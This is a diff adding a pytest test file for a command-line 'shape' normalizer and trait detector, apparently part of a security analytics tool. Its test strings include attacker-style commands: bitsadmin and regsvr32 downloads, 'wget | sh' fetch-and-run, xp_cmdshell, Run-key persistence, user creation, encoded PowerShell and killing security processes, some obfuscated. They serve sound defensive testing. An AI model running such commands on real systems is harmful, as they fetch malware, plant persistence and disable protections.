@@ -1,0 +1,226 @@
+"""Shapes: what a program is told stays, what changes from one use to the next goes; and what a line means to do."""
+
+import time
+
+import pytest
+
+from longtail.executions.meanings import TRAITS
+from longtail.executions.shapes import CUT, MAX_LENGTH, MAX_TOKENS, coarse, features, shape
+from longtail.executions.traits import Trait, traits
+from longtail.executions.words import KINDS, is_word, kind
+
+SHAPES = r"""
+"C:\Windows\system32\cmd.exe" /c echo open 1.2.3.4>So.2
+    -> cmd.exe -c echo open <ip> > <file:2>
+"C:\Windows\system32\cmd.exe" /c echo get Svn.exe >>So.2
+    -> cmd.exe -c echo get <file:exe> >> <file:2>
+taskkill.exe  /im 360rp.exe /f
+    -> taskkill.exe -im <file:exe> -f
+ntsd.exe -c q -pn 360rp.exe
+    -> ntsd.exe -c q -pn <file:exe>
+ftp.exe -s:So.2
+    -> ftp.exe -s:<file:2>
+bitsadmin.exe  /transfer n http://1.2.3.4/Svn.exe c:\Users\Public\Svn.exe"
+    -> bitsadmin.exe -transfer <name> <url:http:exe> <path:public:exe>
+net.exe user bob P@ss1 /add
+    -> net.exe user <name> <rand> -add
+sqlcmd.exe -S . -Q "EXEC sp_configure 'show advanced options',1; EXEC xp_cmdshell 'dir'"
+    -> sqlcmd.exe -s <name> -q <sql:exec:xp_cmdshell>
+sqlcmd.exe -S . -Q "CREATE LOGIN bob WITH PASSWORD='x'"
+    -> sqlcmd.exe -s <name> -q <sql:create:login>
+reg.exe add HKLM\Software\Microsoft\Windows\CurrentVersion\Run /v x /t REG_SZ /d "C:\a b\x.exe" /f
+    -> reg.exe add <reg:hklm:run> -v x -t reg_sz -d <path:other:exe> -f
+powershell.exe -NoP -w hidden -File C:\Scripts\a.ps1 -Days 3
+    -> powershell.exe -noprofile -windowstyle hidden -file <path:other:ps1> -days <n>
+powershell.exe -e dwBoAG8AYQBtAGkA
+    -> powershell.exe -encodedcommand <b64> whoami
+rundll32.exe "C:\Program Files\App\a b.dll",Entry
+    -> rundll32.exe <path:program-files:dll>,entry
+regsvr32.exe /s /n /u /i:http://1.2.3.4/x.sct scrobj.dll
+    -> regsvr32.exe -s -n -u -i:<url:http:sct> <file:dll>
+C:\Windows\System32\svchost.exe -k netsvcs -p -s Schedule
+    -> svchost.exe -k netsvcs -p -s schedule
+sqlservr.exe -sMSSQLSERVER
+    -> sqlservr.exe -s:<name>
+cmd.exe /c cmd /c "whoami & dir > a.txt"
+    -> cmd.exe -c cmd.exe -c whoami.exe & dir > <file:txt>
+cmd.exe /c C:\Temp\Svn.exe -y && del C:\Temp\Svn.exe
+    -> cmd.exe -c <path:temp:exe> -y && del <path:temp:exe>
+sh -c "cd /tmp && wget -q http://1.2.3.4/x.sh -O - | sh"
+    -> sh -c cd <path:unix-temp> && wget -q <url:http:sh> -o - | sh
+C:\Program Files\App\app.exe --mode=fast --user CORP\bob --since 2026-11-22
+    -> app.exe -mode:fast -user <user> -since <date>
+ping.exe -n 1 -w 100 192.168.1.6
+    -> ping.exe -n <n> -w <n> <ip>
+xcopy.exe \\fs01\share\a.txt D:\data\ /y
+    -> xcopy.exe <unc:txt> <path:other-drive> -y
+tool.exe "a long remark that somebody wrote about the weather"
+    -> tool.exe <text:64>
+tool.exe xkqzvbpw{90160000-008C-0000-1000-0000000FF1CE} b6a1458f396 {90160000-008C-0000-1000-0000000FF1CE}
+    -> tool.exe <text:64> <hex> <guid>
+"""
+
+
+def _cases(block: str) -> list[tuple[str, str]]:
+    lines = block.strip().splitlines()
+    return [(line, said.strip().removeprefix("->").strip()) for line, said in zip(lines[::2], lines[1::2], strict=True)]
+
+
+@pytest.mark.parametrize(("line", "said"), _cases(SHAPES))
+def test_the_shape_of_a_line(line: str, said: str) -> None:
+    assert shape(line) == said
+
+
+@pytest.mark.parametrize(("word", "said"), [example for row in KINDS for example in row.examples])
+def test_the_kind_of_a_word(word: str, said: str) -> None:
+    assert kind(word) == said
+
+
+SAME = [
+    ("cmd.exe /c echo a>x.txt", "CMD.EXE  /C  ECHO a > y.txt"),
+    ("cmd.exe /c taskkill /im a.exe", "cmd.exe /c t^askk^ill -IM b.exe"),
+    ("ftp.exe -s:So.2", "ftp.exe /S:Xy.2"),
+    ("powershell.exe -enc dwBoAG8AYQBtAGkA", "powershell.exe /EncodedC dwBoAG8AYQBtAGkA"),
+    ("powershell.exe -nop -c whoami", "powershell.exe \u2013NoProfile \u2014Command whoami"),
+    ("net.exe user bob Secret1! /add", "net.exe user eve hunter22x -add"),
+    (
+        "bitsadmin.exe /transfer n http://1.2.3.4/Svn.exe C:\\Users\\Public\\Svn.exe",
+        "bitsadmin.exe -TRANSFER updates http://198.51.100.77/a7.exe c:/users/public/other.exe",
+    ),
+    ("schtasks.exe /run /tn a", 'schtasks.exe /run /tn "b c"'),
+    ("ping.exe 10.0.0.1", "ping.exe 192.168.100.200"),
+    ("x.exe -p 2b0 -q 000000a4", "x.exe -p 338 -q 00000084"),
+]
+
+
+@pytest.mark.parametrize(("one", "other"), SAME)
+def test_what_changes_between_uses_leaves_the_shape(one: str, other: str) -> None:
+    assert shape(one) == shape(other)
+
+
+DIFFERENT = [
+    ("net.exe user bob /add", "net.exe user bob /delete"),
+    ("copy.exe C:\\Windows\\a.txt x", "copy.exe C:\\Users\\Public\\a.txt x"),
+    ("curl.exe http://a/x.txt", "curl.exe http://a/x.exe"),
+    ("cmd.exe /c echo a", "cmd.exe /c echo a > b.txt"),
+    ("sc.exe start x", "sc.exe stop x"),
+    ('sqlcmd.exe -Q "SELECT a FROM b"', "sqlcmd.exe -Q \"EXEC xp_cmdshell 'dir'\""),
+    ("powershell.exe -File C:\\Program Files\\a.ps1", "powershell.exe -File C:\\Temp\\a.ps1"),
+]
+
+
+@pytest.mark.parametrize(("one", "other"), DIFFERENT)
+def test_what_it_is_told_stays_in_the_shape(one: str, other: str) -> None:
+    assert shape(one) != shape(other)
+
+
+def test_the_name_given_is_the_program() -> None:
+    assert shape("anything /x", "svc.exe") == "svc.exe -x"
+    assert shape("C:\\Program Files\\App\\app.exe -x", "app.exe") == "app.exe -x"
+    assert shape("echo.hello>x.txt", "echo") == "echo hello > <file:txt>"
+
+
+@pytest.mark.parametrize("nothing", [None, ""])
+def test_no_command_line_has_no_shape(nothing: str | None) -> None:
+    assert shape(nothing, "svchost.exe") == ""
+
+
+def test_a_shape_is_bounded_and_says_that_it_was_cut() -> None:
+    many, long = shape("x.exe " + "-a " * 500), shape("x.exe " + "-administration:configuration " * 30)
+    assert many.split(" ")[-1] == CUT and len(many.split(" ")) == MAX_TOKENS + 1
+    assert len(long) <= MAX_LENGTH and long.endswith(CUT)
+
+
+@pytest.mark.parametrize("word", ["add", "transfer", "netsvcs", "no-log", "administrators", "q", "DcomLaunch"])
+def test_real_words_stay(word: str) -> None:
+    assert is_word(word) and kind(word) == word.lower()
+
+
+@pytest.mark.parametrize("word", ["xkqzvbpw", "P@ss1", "qwzrtplkx", "Zq8vT1pX"])
+def test_made_up_words_go(word: str) -> None:
+    assert kind(word) == "<rand>"
+
+
+def test_a_coarse_shape_keeps_options_kinds_and_programs_once() -> None:
+    fine = "cmd.exe -c echo open <ip> > <file:2> & powershell.exe -file <path:temp:ps1> -days:<n> <ip>"
+    assert coarse(fine) == "cmd.exe -c echo <ip> > <file> & powershell.exe -file <path:temp> -days:<n>"
+    assert coarse("net.exe user <name> <rand> -add") == "net.exe <name> <rand> -add"
+    assert coarse("ntsd.exe -c q") == "ntsd.exe -c"
+    assert coarse("app.exe -mode:fast") == "app.exe -mode"
+    assert coarse("") == ""
+
+
+@pytest.mark.parametrize("line", [line for line, _ in _cases(SHAPES)])
+def test_a_coarse_shape_is_its_own_coarse_shape(line: str) -> None:
+    assert coarse(coarse(shape(line))) == coarse(shape(line))
+
+
+def test_features_are_the_sorted_distinct_tokens_after_the_program() -> None:
+    assert features("net.exe user <name> -add -add") == ("-add", "<name>", "user")
+    assert features("") == ()
+
+
+@pytest.mark.parametrize(("trait", "line"), [(row.trait, line) for row in TRAITS for line in row.has])
+def test_a_line_that_has_the_trait(trait: Trait, line: str) -> None:
+    assert trait in traits(line)
+
+
+@pytest.mark.parametrize(("trait", "line"), [(row.trait, line) for row in TRAITS for line in row.has_not])
+def test_a_line_that_only_looks_like_the_trait(trait: Trait, line: str) -> None:
+    assert trait not in traits(line)
+
+
+def test_every_trait_has_a_row() -> None:
+    assert [row.trait for row in TRAITS] == list(Trait)
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "cmd /c cmd /c taskkill -im x.exe",
+        'cmd /c "t^askkill /IM x.exe"',
+        "powershell -enc dABhAHMAawBrAGkAbABsACAALwBpAG0AIAB4AC4AZQB4AGUA",
+        '"C:\\Windows\\System32\\taskkill.exe" \u2013im x.exe',
+        'forfiles /c "cmd /c taskkill /f /im x.exe"',
+    ],
+)
+def test_wrapping_and_spelling_do_not_hide_a_trait(line: str) -> None:
+    assert Trait.STOPS_SOMETHING in traits(line)
+
+
+@pytest.mark.parametrize("nothing", [None, "", " ", "svchost.exe -k netsvcs -p"])
+def test_ordinary_lines_have_no_trait(nothing: str | None) -> None:
+    assert traits(nothing) == frozenset()
+
+
+@pytest.mark.parametrize(
+    "hostile",
+    [
+        "x " + '"' * 50_000,
+        "x " + "'" * 50_000,
+        "x " + "'a " * 20_000,
+        "x " + ">" * 30_000,
+        "x " + "a" * 100_000,
+        "x " + "a." * 15_000,
+        "x " + "a:" * 15_000,
+        "x " + "a=" * 15_000,
+        "x " + "\\" * 30_000,
+        "x " + "/" * 30_000,
+        "x " + "1." * 15_000,
+        "x " + "A1b+" * 8_000,
+        'x "' + "a b " * 8_000 + '"',
+        'x "' + "exec a " * 4_000 + '"',
+        "cmd /c " + "(" * 10_000,
+        "cmd /c " * 4_000,
+        "powershell -c " + "iex(" * 8_000,
+        "echo " + "> " * 10_000,
+        "http" * 8_000,
+        "x " + ".pdf" * 8_000,
+    ],
+    ids=lambda text: text[:14],
+)
+def test_hostile_lines_are_shaped_in_linear_time(hostile: str) -> None:
+    began = time.process_time()
+    assert len(shape(hostile)) <= MAX_LENGTH
+    traits(hostile)
+    assert time.process_time() - began < 0.6
